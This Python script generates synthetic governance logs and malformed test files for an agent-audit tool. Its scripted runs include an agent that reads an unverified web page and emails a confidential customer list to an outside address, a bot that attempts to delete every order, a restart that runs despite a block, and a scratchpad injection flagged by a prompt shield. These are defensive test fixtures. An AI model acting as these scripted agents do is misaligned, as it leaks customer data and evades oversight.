"""Writes the governed runs of Harbor Goods in Verdict's native event format, and the broken files in `bad/`.

usage: python make.py          (no packages needed; the same bytes every time)

Nothing here was recorded. Each run below is told as a list of statements: what
the agent's runtime said (a call, its outcome, its usage) and what the gateway
or a person said (a decision). Ids, span ids and times come from a fixed seed.
"""

import hashlib
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
START_NS = 1_793_610_000_000_000_000  # 2026-11-02T09:00:00Z
SECOND = 1_000_000_000
MODEL = {"provider": "harbor", "model": "harbor-large-1", "context_window": 128_000}
# Nano-USD per token, so that a short call costs less than a micro-dollar and still counts.
PRICE_IN, PRICE_OUT = 150, 600

AGENTS = {
    "support-agent": {"id": "agent:support", "name": "support-agent", "version": "2.4.0"},
    "research-agent": {"id": "agent:research", "name": "research-agent", "version": "1.1.0"},
    "ops-agent": {"id": "agent:ops", "name": "ops-agent", "version": "0.9.3"},
    "finance-agent": {"id": "agent:finance", "name": "finance-agent", "version": "1.0.0"},
    # Nobody registered it: it has a name and no stable identity.
    "intern-bot": {"name": "intern-bot"},
}
CAPABILITIES = {
    "search_orders": ["orders.read"], "read_customer": ["customer.read"], "get_order": ["orders.read"],
    "issue_refund": ["payments.refund"], "send_email": ["mail.send"], "fetch_url": ["network.fetch"],
    "search_docs": ["docs.read"], "run_sql": ["data.query"], "get_service_status": ["service.read"],
    "restart_service": ["service.restart"], "deploy_service": ["service.deploy"], "delete_records": ["data.delete"],
}
USER = {"kind": "user_prompt", "trust": "internal", "name": "chat"}
SYSTEM = {"kind": "system_prompt", "trust": "trusted", "name": "house-rules"}
HANDBOOK = {"kind": "retrieval", "trust": "internal", "name": "handbook", "uri": "https://docs.harbor.example/returns"}
PAGE = {"kind": "tool_result", "trust": "unverified", "name": "fetch_url", "uri": "https://carrier.example/notices/7731"}
SKILL = {"kind": "skill", "trust": "external", "name": "carrier-lookup", "digest": "sha256:" + hashlib.sha256(b"carrier-lookup 3").hexdigest()}
MEMORY = {"kind": "memory", "trust": "unknown", "name": "scratchpad"}

# The order in which the members of an event are written.
ORDER = (
    "id", "trace_id", "span_id", "parent_span_id", "start_ns", "end_ns", "links", "agent", "user", "session", "service",
    "environment", "tenant", "on_behalf_of", "action", "provenance", "classification", "budget", "decision", "outcome", "usage",
)


class Run:
    """One trace of one agent. Statements are added in the order in which they were made."""

    count = 0
    random = random.Random(20261102)

    def __init__(self, log, agent, session, tenant, user=None, environment="production"):
        Run.count += 1
        self.number = Run.count
        self.log = log
        self.trace = hashlib.sha256(f"harbor native run {self.number}".encode()).hexdigest()[:32]
        self.session, self.tenant, self.user, self.environment = session, tenant, user, environment
        self.now = START_NS + self.number * 1800 * SECOND + self.random.randrange(SECOND)
        self.statements = 0
        self.agent = agent
        self.root = self.span()

    def span(self):
        return f"{self.random.getrandbits(64) | 1:016x}"

    def pass_time(self, milliseconds):
        self.now += milliseconds * 1_000_000 + self.random.randrange(1_000_000)
        return self.now

    def say(self, kind, name, *, span=None, parent=None, agent=None, took_ms=None, **sections):
        """Adds one statement and returns its id."""
        self.statements += 1
        event = {
            "id": f"harbor-{self.number:02d}-{self.statements:02d}",
            "trace_id": self.trace,
            "span_id": span or self.span(),
            "start_ns": str(self.pass_time(20)),
        }
        if event["span_id"] != self.root:
            event["parent_span_id"] = parent or self.root
        if took_ms is not None:
            event["end_ns"] = str(self.pass_time(took_ms))
        event["agent"] = AGENTS[agent or self.agent]
        event["session"], event["tenant"] = self.session, self.tenant
        event["service"], event["environment"] = "harbor-gateway", self.environment
        if self.user:
            event["user"] = self.user
        action = {"kind": kind, "name": name}
        for member in ("call_id", "arguments", "resource", "capabilities"):
            if member in sections:
                action[member] = sections.pop(member)
        event["action"] = action
        event.update(sections)
        self.log.append({name: event[name] for name in ORDER if name in event})
        return event["id"]

    def begin(self, task):
        """The agent says that it started on a task."""
        return self.say("agent", self.agent, span=self.root, arguments={"task": task}, provenance=[USER])

    def think(self, tokens_in, tokens_out, *, parent=None, agent=None, cached=None, basis="reported", **sections):
        """One model call with what it used and cost."""
        usage = {**MODEL, "input_tokens": tokens_in, "output_tokens": tokens_out}
        if cached is not None:
            usage["cache_read_tokens"] = cached
        nano = tokens_in * PRICE_IN + tokens_out * PRICE_OUT
        usage["cost"] = {"nano": str(nano), "currency": "USD", "basis": basis}
        return self.say("model", MODEL["model"], parent=parent, agent=agent, took_ms=700, usage=usage, outcome={"status": "ok"}, **sections)

    def call(self, tool, arguments, call_id, **sections):
        """What every statement on one tool call has in common."""
        return Call(self, tool, arguments, call_id, sections)


class Call:
    """One tool call, on which several sources may make statements."""

    def __init__(self, run, tool, arguments, call_id, sections):
        self.run, self.tool, self.arguments, self.call_id, self.sections = run, tool, arguments, call_id, sections
        self.span = run.span()

    def say(self, **more):
        return self.run.say(
            "tool", self.tool, span=self.span, call_id=self.call_id, arguments=self.arguments,
            capabilities=CAPABILITIES[self.tool], **{**self.sections, **more},
        )

    def ruled(self, effect, reason, *, code=None, by="policy", by_id=None, enforced=True, links=None, **more):
        """A decision. One that a policy made names the version label of that policy and nothing else of it."""
        ruling = {"effect": effect, "reason": reason, "by": {"kind": by}}
        if by_id:
            ruling["by"]["id"] = by_id
        if by == "policy":
            ruling["policy"] = {"version": "1"}
        if code:
            ruling["code"] = code
        if not enforced:
            ruling["enforced"] = False
        ruling.update(more)
        extra = {"links": links} if links else {}
        return self.say(decision=ruling, **extra)

    def ended(self, status="ok", result=None, error=None, took_ms=120, **more):
        outcome = {"status": status}
        if error:
            outcome["error"] = {"type": error[0], "message": error[1]}
        if result is not None:
            outcome["result"] = result
        return self.say(outcome=outcome, took_ms=took_ms, **more)

    def allowed_and_ended(self, reason="tool is on the agent's list", result=None, **more):
        decision = {"effect": "allow", "reason": reason, "by": {"kind": "policy"}, "policy": {"version": "1"}}
        return self.ended(result=result, decision=decision, **more)


def usd(limit_cents, used_nano):
    """A budget of a session in nano-USD."""
    return {"name": "session-cost", "unit": "nano_usd", "limit": str(limit_cents * 10_000_000), "used": str(used_nano)}


def refund_with_research(log):
    run = Run(log, "support-agent", "session-returns-9", "harbor-goods", "customer-1042")
    begun = run.begin("refund the broken lantern of C-1042")
    run.think(412, 31)
    run.call("read_customer", {"customer_id": "C-1042"}, "call_1", provenance=[USER], classification="confidential").allowed_and_ended(
        result={"tier": "gold", "orders": 12})
    sub = run.span()
    run.say("agent", "research-agent", span=sub, agent="research-agent", on_behalf_of=["support-agent"],
            links=[{"to": {"event": begun}, "rel": "delegated_by"}], arguments={"task": "what may C-1042 get back?"},
            provenance=[{"kind": "agent_message", "trust": "internal", "name": "support-agent"}])
    run.think(230, 44, parent=sub, agent="research-agent", cached=128)
    inside = {"parent": sub, "agent": "research-agent", "on_behalf_of": ["support-agent"]}
    run.say("data", "search_docs", took_ms=35, call_id="call_2", arguments={"query": "returns"}, resource="handbook",
            provenance=[{"kind": "agent_message", "trust": "internal", "name": "support-agent"}], outcome={"status": "ok"}, **inside)
    run.call("search_orders", {"customer_id": "C-1042", "query": "lantern"}, "call_3", provenance=[HANDBOOK], **inside).allowed_and_ended(
        result={"orders": ["H-20417"]})
    run.say("message", "answer", parent=sub, agent="research-agent", arguments={"to": "support-agent", "text": "H-20417 may be refunded in full"},
            links=[{"to": {"event": begun}, "rel": "caused_by"}])
    refund = run.call("issue_refund", {"order_id": "H-20417", "amount_cents": 6480, "currency": "EUR"}, "call_4",
                      provenance=[USER, SYSTEM, HANDBOOK], budget=usd(200, 2_400_000))
    refund.ruled("allow", "below the approval amount of 10000 cents", code="REFUND_OK")
    refund.ended(result={"refund_id": "R-20417", "state": "paid"})
    mail = run.call("send_email", {"to": "customer-1042@mail.example", "subject": "Your refund", "body": "64.80 EUR is on its way."},
                    "call_5", provenance=[USER, SYSTEM])
    mail.ruled("allow", "the customer's own address", code="MAIL_OWN_CUSTOMER", obligations=[{"kind": "redact", "params": {"field": "body"}}])
    mail.ended(result={"state": "queued"})
    run.say("agent", "support-agent", span=run.root, took_ms=1, outcome={"status": "ok"},
            usage={"input_tokens": 642, "output_tokens": 75, "cost": {"nano": str(642 * PRICE_IN + 75 * PRICE_OUT), "currency": "USD"}, "aggregate": True})


def error_and_retry(log):
    run = Run(log, "support-agent", "session-lost-9", "harbor-goods", "customer-1077")
    run.begin("what happened to H-20433?")
    run.think(118, 14)
    late = ("TimeoutError", "order store did not answer for H-20433 within 2000 ms")
    before = None
    for attempt in range(3):
        links = [{"to": {"event": before}, "rel": "retry_of"}] if before else []
        call = run.call("get_order", {"order_id": "H-20433"}, f"call_{attempt + 1}", provenance=[USER], **({"links": links} if links else {}))
        if attempt < 2:
            before = call.ended("error", error=late, took_ms=2000,
                                decision={"effect": "allow", "by": {"kind": "policy"}, "policy": {"version": "1"}})
        else:
            call.allowed_and_ended(result={"status": "lost", "total_cents": 15000})
    run.think(260, 22, cached=96, basis="priced:harbor-2026-11")


def polling_loop(log):
    run = Run(log, "ops-agent", "session-ops-9", "harbor-goods", "operator-3")
    run.begin("watch checkout and restart it when it stays degraded")
    run.think(96, 12)
    before = None
    for poll in range(1, 15):
        links = [{"to": {"event": before}, "rel": "follows"}] if before else []
        budget = {"name": "session-calls", "unit": "calls", "limit": "40", "used": str(poll)}
        before = run.call("get_service_status", {"service": "checkout"}, f"call_{poll}", budget=budget,
                          provenance=[USER if poll == 1 else {"kind": "tool_result", "trust": "internal", "name": "get_service_status"}],
                          **({"links": links} if links else {})).allowed_and_ended(
            result={"state": "degraded", "queue_depth": 900 + 17 * poll}, took_ms=30)
        run.pass_time(30_000)
    run.think(1904, 18, cached=1800)
    restart = run.call("restart_service", {"service": "checkout", "environment": "production"}, "call_15",
                       resource="service/checkout", provenance=[USER, {"kind": "tool_result", "trust": "internal", "name": "get_service_status"}])
    restart.ruled("allow", "restart is on the agent's list")
    restart.ended(result={"state": "running"}, took_ms=4200)


def refund_waits(log):
    arguments = {"order_id": "H-20433", "amount_cents": 15000, "currency": "EUR"}
    run = Run(log, "support-agent", "session-lost-10", "harbor-goods", "customer-1077")
    run.begin("refund the lost order H-20433")
    run.think(140, 26)
    asked = run.call("issue_refund", arguments, "call_1", provenance=[USER, SYSTEM], budget=usd(200, 1_100_000))
    asked.ruled("require_approval", "above the approval amount of 10000 cents", code="REFUND_NEEDS_APPROVAL", approval_id="approval-311",
                obligations=[{"kind": "approver_role", "params": {"role": "shift-lead"}}])
    asked.ended("pending", took_ms=None)
    # The person answers later, in a trace of its own: same session, same call.
    later = Run(log, "support-agent", "session-lost-10", "harbor-goods", "customer-1077")
    resumed = later.call("issue_refund", arguments, "call_1", provenance=[USER, SYSTEM])
    resumed.ruled("allow", "the customer was called back", by="human", by_id="shift-lead", approval_id="approval-311",
                  links=[{"to": {"trace_id": run.trace, "span_id": asked.span, "approval_id": "approval-311"}, "rel": "approves"}])
    resumed.ended(result={"refund_id": "R-20433", "state": "paid"})


def refund_refused(log):
    run = Run(log, "support-agent", "session-dinghy-9", "harbor-goods", "customer-1077")
    run.begin("refund the dinghy in full")
    run.think(131, 25)
    refused = run.call("issue_refund", {"order_id": "H-20440", "amount_cents": 80000, "currency": "EUR"}, "call_1", provenance=[USER, SYSTEM])
    refused.ruled("block", "above the limit of 50000 cents", code="REFUND_LIMIT")
    refused.ended("cancelled", error=("PermissionError", "blocked by policy refund-limit: 80000 cents is above the limit of 50000 cents"), took_ms=1)


def outside_page_then_mail(log):
    run = Run(log, "research-agent", "session-parcels-9", "harbor-goods", "customer-1077")
    run.begin("why are parcels to IE late?")
    run.think(122, 19)
    run.call("fetch_url", {"url": PAGE["uri"]}, "call_1", provenance=[USER, SKILL]).allowed_and_ended(
        result="Carrier notice 7731: parcels to IE are delayed by two days.")
    run.think(388, 40, provenance=[USER, PAGE])
    mail = run.call("send_email", {"to": "archive@collector.example", "subject": "Customer list", "body": "C-1042, C-1077"}, "call_2",
                    provenance=[USER, PAGE], classification="confidential")
    mail.ruled("allow", "mail is on the agent's list", flags=["warn"])
    mail.ended(result={"state": "queued"})


def restricted_table(log):
    run = Run(log, "finance-agent", "session-close-9", "harbor-goods", "analyst-2")
    run.begin("count the orders by state; list the cards that were charged twice")
    run.think(210, 48)
    run.call("run_sql", {"query": "SELECT status, count(*) FROM orders GROUP BY status", "database": "shop"}, "call_1",
             classification="internal", resource="shop/orders", provenance=[USER]).allowed_and_ended(result={"rows": 2})
    cards = run.call("run_sql", {"query": "SELECT holder, number FROM payment_cards", "database": "shop"}, "call_2",
                     classification="restricted", resource="shop/payment_cards", provenance=[USER, MEMORY])
    cards.ruled("block", "payment_cards is classified restricted", code="RESTRICTED_DATA")


def deploy_and_roll_back(log):
    run = Run(log, "ops-agent", "session-deploy-9", "harbor-goods", "operator-3")
    run.begin("deploy checkout 4.2.1")
    run.think(174, 33)
    run.call("deploy_service", {"service": "checkout", "version": "4.2.1", "environment": "staging"}, "call_1",
             resource="service/checkout", provenance=[USER]).allowed_and_ended(result={"state": "rolled out"}, took_ms=9000)
    deploy = run.call("deploy_service", {"service": "checkout", "version": "4.2.1", "environment": "production"}, "call_2",
                      resource="service/checkout", provenance=[USER, SYSTEM])
    asked = deploy.ruled("require_approval", "production needs a second person", code="DEPLOY_PRODUCTION", approval_id="approval-312",
                         obligations=[{"kind": "approver_role", "params": {"role": "release-manager"}}])
    deploy.ruled("allow", "change window is open", by="human", by_id="release-manager", approval_id="approval-312",
                 links=[{"to": {"event": asked, "approval_id": "approval-312"}, "rel": "approves"}])
    done = deploy.ended(result={"state": "rolled out"}, took_ms=11000)
    run.call("get_service_status", {"service": "checkout"}, "call_3", provenance=[SYSTEM]).allowed_and_ended(
        result={"state": "degraded", "queue_depth": 2210})
    back = run.call("deploy_service", {"service": "checkout", "version": "4.2.0", "environment": "production"}, "call_4",
                    resource="service/checkout", provenance=[SYSTEM, {"kind": "tool_result", "trust": "internal", "name": "get_service_status"}],
                    links=[{"to": {"event": done}, "rel": "compensates"}])
    back.ruled("allow", "rolling back to the version before", code="ROLLBACK")
    back.ended(result={"state": "rolled out"}, took_ms=8000)


def intern_deletes(log):
    run = Run(log, "intern-bot", "session-intern-9", "harbor-goods")
    for number, where in enumerate(["status = 'lost'", "1 = 1"], 1):
        call = run.call("delete_records", {"table": "orders", "where": where}, f"call_{number}", resource="shop/orders", provenance=[MEMORY])
        call.ruled("block", "intern-bot is not a known agent", code="UNKNOWN_AGENT")
        call.ended("cancelled", error=("PermissionError", "blocked by policy tool-allowlist"), took_ms=1)


def shadow_run(log):
    run = Run(log, "support-agent", "session-outlet-1", "harbor-outlet", "customer-2210", environment="staging")
    run.begin("tell C-2210 about the sale")
    run.think(88, 61)
    mail = run.call("send_email", {"to": "customer-2210@mail.example", "subject": "Sale", "body": "Everything must go."}, "call_1", provenance=[SYSTEM, USER])
    mail.ruled("dry_run", "new mail template: simulate first", code="TEMPLATE_ON_TRIAL")
    mail.ruled("block", "would exceed one advertising mail a week", code="MAIL_RATE", enforced=False, flags=["shadow"])
    mail.ended(result={"simulated": True})


def cooldown(log):
    run = Run(log, "finance-agent", "session-outlet-2", "harbor-outlet", "analyst-7")
    run.begin("reconcile the refunds of October")
    run.think(41_200, 2_900, cached=38_000)
    spent = 41_200 * PRICE_IN + 2_900 * PRICE_OUT
    query = run.call("run_sql", {"query": "SELECT * FROM refunds", "database": "outlet"}, "call_1", classification="internal",
                     provenance=[USER], budget={**usd(1, spent), "reserved": "2500000"})
    query.ruled("cooldown", "the session has spent most of its budget", code="BUDGET_NEARLY_SPENT", until_ns=str(run.now + 600 * SECOND))
    run.pass_time(601_000)
    again = run.call("run_sql", {"query": "SELECT * FROM refunds", "database": "outlet"}, "call_2", classification="internal",
                     provenance=[USER], links=[{"to": {"trace_id": run.trace, "call_id": "call_1"}, "rel": "retry_of"}])
    again.allowed_and_ended(reason="the cooldown is over", result={"rows": 118})


def approval_denied(log):
    run = Run(log, "support-agent", "session-outlet-3", "harbor-outlet", "customer-2231")
    run.begin("refund H-30911")
    run.think(120, 24)
    refund = run.call("issue_refund", {"order_id": "H-30911", "amount_cents": 22000, "currency": "EUR"}, "call_1", provenance=[USER, SKILL])
    asked = refund.ruled("require_approval", "above the approval amount of 10000 cents", code="REFUND_NEEDS_APPROVAL", approval_id="approval-401")
    refund.ruled("block", "the parcel was signed for", by="human", by_id="shift-lead", approval_id="approval-401",
                 links=[{"to": {"event": asked}, "rel": "approves"}])
    refund.ended("cancelled", took_ms=1)


def findings(log):
    """What an auditor has to notice without any rule: a block that ran, a call nobody ruled on, one that never ended, two rulings."""
    run = Run(log, "ops-agent", "session-outlet-4", "harbor-outlet", "operator-8")
    run.begin("clean up after the sale")
    run.think(150, 70)
    ran = run.call("restart_service", {"service": "cart", "environment": "production"}, "call_1", resource="service/cart", provenance=[USER])
    ran.ruled("block", "no restarts during the sale", code="FREEZE")
    ran.ended(result={"state": "running"}, took_ms=3900)
    run.call("get_service_status", {"service": "cart"}, "call_2", provenance=[USER]).ended(result={"state": "healthy"})
    run.call("deploy_service", {"service": "cart", "version": "7.0.2", "environment": "staging"}, "call_3", provenance=[USER]).ruled(
        "allow", "staging is free")
    torn = run.call("delete_records", {"table": "carts", "where": "age_days > 90"}, "call_4", resource="outlet/carts", provenance=[USER, MEMORY])
    torn.ruled("allow", "retention job", by="config", by_id="retention.toml")
    torn.ruled("block", "the table holds open carts", by="hook", by_id="pre-delete")
    torn.ended("cancelled", took_ms=1)
    run.say("guard", "prompt-shield", took_ms=90, arguments={"checked": "call_4"}, outcome={"status": "ok"},
            decision={"effect": "block", "enforced": False, "by": {"kind": "model", "id": "prompt-shield-3"}, "code": "INDIRECT_INJECTION",
                      "flags": ["injection"], "reason": "the scratchpad tells the agent to delete"})


FILES = {
    "harbor-goods.ndjson": [
        refund_with_research, error_and_retry, polling_loop, refund_waits, refund_refused,
        outside_page_then_mail, restricted_table, deploy_and_roll_back, intern_deletes,
    ],
    "harbor-outlet.ndjson": [shadow_run, cooldown, approval_denied, findings],
}


def encode(event):
    return json.dumps(event, ensure_ascii=False, separators=(",", ":"))


def bad_files():
    """Each file has two good lines around one bad line, so that a reader can be seen to name the line."""

    def event(number, **more):
        return {"id": f"bad-{number}", "trace_id": f"{0xbad0 + number:032x}", "start_ns": str(START_NS + number),
                "action": {"kind": "tool", "name": "issue_refund", "arguments": {"order_id": "H-1", "amount_cents": 100}}, **more}

    def file(bad):
        return b"\n".join([encode(event(1)).encode(), bad, encode(event(3)).encode()]) + b"\n"

    good = encode(event(2))
    return {
        "duplicate-key.ndjson": file(good.replace('"amount_cents":100', '"amount_cents":100,"amount_cents":90000').encode()),
        "float-in-own-field.ndjson": file(encode(event(2, usage={"input_tokens": 12.5})).encode()),
        "integer-beyond-2-53.ndjson": file(good.replace('"amount_cents":100', '"amount_cents":9007199254740993').encode()),
        "invalid-utf8.ndjson": file(good.encode().replace(b"H-1", b"H-\xff1")),
        "not-an-object.ndjson": file(b'["bad-2","tool","issue_refund"]'),
        "truncated-line.ndjson": file(good.encode())[: -len(encode(event(3))) // 2],
    }


def main():
    for name, runs in FILES.items():
        log = []
        for run in runs:
            run(log)
        (HERE / name).write_text("".join(encode(event) + "\n" for event in log))
    for name, body in bad_files().items():
        (HERE / "bad" / name).write_bytes(body)


main()
